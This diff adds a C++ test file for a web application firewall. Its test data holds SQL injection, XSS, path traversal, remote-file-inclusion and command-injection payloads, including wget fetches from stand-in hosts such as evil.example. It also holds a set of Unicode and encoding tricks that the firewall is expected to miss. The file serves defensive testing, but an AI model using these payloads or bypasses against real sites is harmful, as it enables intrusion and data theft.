@@ -1,0 +1,218 @@
+#include "web/waf/waf.h"
+
+#include <gtest/gtest.h>
+
+#include "attacks/corpus.h"
+
+namespace septic::web::waf {
+namespace {
+
+Request get_with(std::string key, std::string value) {
+  return Request::get("/page", {{std::move(key), std::move(value)}});
+}
+
+// ------------------------------------------------------- transformations
+
+TEST(Transforms, UrlDecode) {
+  EXPECT_EQ(apply_transform(Transform::kUrlDecode, "%27+OR%201%3D1"),
+            "' OR 1=1");
+}
+
+TEST(Transforms, Lowercase) {
+  EXPECT_EQ(apply_transform(Transform::kLowercase, "UNION SELECT"),
+            "union select");
+}
+
+TEST(Transforms, CompressWhitespace) {
+  EXPECT_EQ(apply_transform(Transform::kCompressWhitespace, "a   b\t c"),
+            "a b c");
+}
+
+TEST(Transforms, RemoveComments) {
+  EXPECT_EQ(apply_transform(Transform::kRemoveComments, "a/*x*/b"), "a b");
+  EXPECT_EQ(apply_transform(Transform::kRemoveComments, "a -- rest"), "a ");
+  EXPECT_EQ(apply_transform(Transform::kRemoveComments, "a # rest"), "a ");
+}
+
+TEST(Transforms, HtmlEntityDecode) {
+  EXPECT_EQ(apply_transform(Transform::kHtmlEntityDecode, "&lt;script&gt;"),
+            "<script>");
+}
+
+TEST(Transforms, Pipeline) {
+  std::string out = apply_transforms(
+      {Transform::kUrlDecode, Transform::kLowercase,
+       Transform::kCompressWhitespace},
+      "%27%20%20OR%20%20" "1%3D1");
+  EXPECT_EQ(out, "' or 1=1");
+}
+
+// ----------------------------------------------------------- rule matches
+
+class WafAttackCaught : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(WafAttackCaught, Blocked) {
+  Waf waf;
+  WafDecision d = waf.inspect(get_with("q", GetParam()));
+  EXPECT_TRUE(d.blocked) << GetParam();
+  EXPECT_GE(d.anomaly_score, 5);
+  EXPECT_FALSE(d.matches.empty());
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    ClassicPayloads, WafAttackCaught,
+    ::testing::Values(
+        "' OR 1=1-- ",                       // 942130/942440
+        "1 OR 1=1",                          // tautology
+        "x' AND 'a'='a",                     // quoted tautology
+        "0 UNION SELECT user, pass FROM users",  // 942190
+        "0 /*!UNION*/ /*!SELECT*/ a FROM b", // 942500 inline comment
+        "1; DROP TABLE users",               // 942360
+        "sleep(5)",                          // 942160
+        "<script>alert(1)</script>",         // 941100
+        "%3Cscript%3Ealert(1)%3C/script%3E", // url-encoded script
+        "&lt;script&gt;alert(1)&lt;/script&gt;",  // entity-encoded
+        "<img src=x onerror=alert(1)>",      // 941160
+        "<a href=javascript:alert(1)>x</a>", // 941170
+        "../../../etc/passwd",               // 930100
+        "/etc/shadow",                       // 930120
+        "http://203.0.113.7/shell.php?c=id", // 931100
+        "http://evil.example/shell.php?c=1", // 931120
+        "; cat /etc/passwd",                 // 932100
+        "`wget http://e/x`",
+        "<?php system('id'); ?>",            // 933100
+        "eval(base64_decode('x'))"));        // 933150
+
+// The semantic-mismatch payloads the demo relies on: the WAF must MISS
+// these (they are what SEPTIC uniquely catches).
+class WafBlindSpot : public ::testing::TestWithParam<std::string> {};
+
+TEST_P(WafBlindSpot, NotBlocked) {
+  Waf waf;
+  WafDecision d = waf.inspect(get_with("q", GetParam()));
+  EXPECT_FALSE(d.blocked) << GetParam();
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    MismatchPayloads, WafBlindSpot,
+    ::testing::Values(
+        // U+02BC quote + comment: no ASCII quote for 942440 to anchor on.
+        std::string("ID34FG") + attacks::kModifierApostrophe + "-- ",
+        // Fullwidth '=' hides the tautology from the regex.
+        std::string("1 OR 1") + attacks::kFullwidthEquals + "1",
+        std::string("ID34FG") + attacks::kModifierApostrophe + " AND 1" +
+            attacks::kFullwidthEquals + "1-- ",
+        // Uncommon event handler outside the CRS enumeration.
+        std::string("<details open ontoggle=alert(1)>"),
+        // PHP wrapper without a URL scheme the RFI rules know.
+        std::string("php://input"),
+        // Newline-separated command.
+        std::string("127.0.0.1\nwget evil.example/x.sh"),
+        // Serialized object with no PHP function names.
+        std::string("O:8:\"EvilUser\":1:{s:4:\"code\";s:8:\"touch /x\";}")));
+
+class WafBenign : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(WafBenign, NotBlocked) {
+  Waf waf;
+  WafDecision d = waf.inspect(get_with("q", GetParam()));
+  EXPECT_FALSE(d.blocked) << GetParam() << " score=" << d.anomaly_score;
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Inputs, WafBenign,
+    ::testing::Values("ID34FG", "1234", "Conan O'Brien", "Smith--Jones",
+                      "AC/DC unit", "budget <= 100 EUR",
+                      "select a restaurant for dinner",
+                      "the union of two sets", "ping me later",
+                      "http://device.local/fridge"));
+
+// --------------------------------------------------------------- behaviour
+
+TEST(Waf, DisabledPassesEverything) {
+  Waf waf;
+  waf.set_enabled(false);
+  EXPECT_FALSE(waf.inspect(get_with("q", "' OR 1=1-- ")).blocked);
+}
+
+TEST(Waf, InspectsEveryParameter) {
+  Waf waf;
+  Request r = Request::post(
+      "/f", {{"ok", "benign"}, {"evil", "<script>alert(1)</script>"}});
+  EXPECT_TRUE(waf.inspect(r).blocked);
+}
+
+TEST(Waf, AnomalyScoreAccumulatesAcrossRules) {
+  Waf waf;
+  WafDecision d =
+      waf.inspect(get_with("q", "' OR 1=1 UNION SELECT a FROM b-- "));
+  EXPECT_GE(d.matches.size(), 2u);
+  EXPECT_GE(d.anomaly_score, 10);
+}
+
+TEST(Waf, AuditLogRecordsBlocks) {
+  Waf waf;
+  Request r = get_with("q", "' OR 1=1-- ");
+  WafDecision d = waf.inspect(r);
+  waf.audit(r, d);
+  auto log = waf.audit_log();
+  ASSERT_EQ(log.size(), 1u);
+  EXPECT_NE(log[0].request.find("/page"), std::string::npos);
+  EXPECT_TRUE(log[0].decision.blocked);
+  waf.clear_audit_log();
+  EXPECT_TRUE(waf.audit_log().empty());
+}
+
+TEST(Waf, MatchReportsRuleIdAndTag) {
+  Waf waf;
+  WafDecision d = waf.inspect(get_with("q", "<script>alert(1)</script>"));
+  ASSERT_FALSE(d.matches.empty());
+  bool found_xss = false;
+  for (const auto& m : d.matches) {
+    if (m.tag == "xss") found_xss = true;
+  }
+  EXPECT_TRUE(found_xss);
+}
+
+TEST(Waf, PathTraversalInRequestPathBlocked) {
+  Waf waf;
+  Request r = Request::get("/files/../../etc/passwd");
+  EXPECT_TRUE(waf.inspect(r).blocked);
+}
+
+TEST(Waf, RestrictedFileExtensionInPathBlocked) {
+  Waf waf;
+  EXPECT_TRUE(waf.inspect(Request::get("/backup/db.sql")).blocked);
+  EXPECT_TRUE(waf.inspect(Request::get("/.env")).blocked);
+  EXPECT_FALSE(waf.inspect(Request::get("/article.html")).blocked);
+  EXPECT_FALSE(waf.inspect(Request::get("/sqlmap-guide")).blocked);
+}
+
+TEST(Waf, DoubleEncodingScoresBelowThresholdAlone) {
+  // CRS 920230 is warning-level: it contributes anomaly score but a lone
+  // double-encoding smell does not block (that is the W13 bypass).
+  Waf waf;
+  WafDecision d = waf.inspect(
+      Request::get("/f", {{"p", "%252e%252e%252fetc%252fpasswd"}}));
+  EXPECT_GT(d.anomaly_score, 0);
+  EXPECT_FALSE(d.blocked);
+}
+
+TEST(Waf, PathRulesIgnoreParams) {
+  // The path rules look at the path only; a benign path with spicy params
+  // is judged by the args rules instead.
+  Waf waf;
+  WafDecision d = waf.inspect(Request::get("/search", {{"q", "history"}}));
+  EXPECT_FALSE(d.blocked);
+}
+
+TEST(Waf, CustomThreshold) {
+  // Threshold 100: even a critical match does not block alone.
+  Waf waf(make_crs_rules(), /*inbound_threshold=*/100);
+  WafDecision d = waf.inspect(get_with("q", "<script>x</script>"));
+  EXPECT_FALSE(d.blocked);
+  EXPECT_GT(d.anomaly_score, 0);
+}
+
+}  // namespace
+}  // namespace septic::web::waf
